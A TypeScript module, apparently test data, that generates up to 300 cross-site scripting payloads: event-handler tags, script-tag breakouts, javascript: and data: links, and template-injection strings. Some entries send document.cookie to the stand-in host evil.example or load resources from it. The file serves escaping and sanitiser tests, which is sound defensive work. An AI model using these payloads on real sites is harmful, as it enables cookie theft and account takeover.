/** Three hundred texts that a careless page would run. None is longer than a report may be. */

const runs = ['alert(1)', 'alert`1`', 'window.ran=1', "fetch('//evil.example/'+document.cookie)", 'top.ran=1']
const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'iframe',
]
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover']

const byHandler = tags.flatMap((tag) =>
  handlers.flatMap((handler) => runs.map((run) => `<${tag} ${handler}=${run}>`)),
)
const byScript = runs.flatMap((run) => [
  `<script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `--><script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script\n>${run}</script\n>`,
  `<<script>${run}//<</script>`,
  `{@html "<script>${run}</script>"}`,
])
const byAddress = runs.flatMap((run) => [
  `<a href="javascript:${run}">se her</a>`,
  `<a href="JaVaScRiPt:${run}">se her</a>`,
  `<a href="data:text/html,<script>${run}</script>">se her</a>`,
  `<form action="javascript:${run}"><button>Send</button></form>`,
  `<object data="javascript:${run}"></object>`,
  `<meta http-equiv="refresh" content="0;javascript:${run}">`,
  `<base href="//evil.example/" title="${run}">`,
  `<style>@import '//evil.example/${run}'</style>`,
])
const byBreakingOut = runs.flatMap((run) => [
  `" autofocus onfocus="${run}`,
  `' autofocus onfocus='${run}`,
  `\` onmouseover=${run} \``,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
])

export const xssTexts: string[] = [...byScript, ...byAddress, ...byBreakingOut, ...byHandler].slice(0, 300)
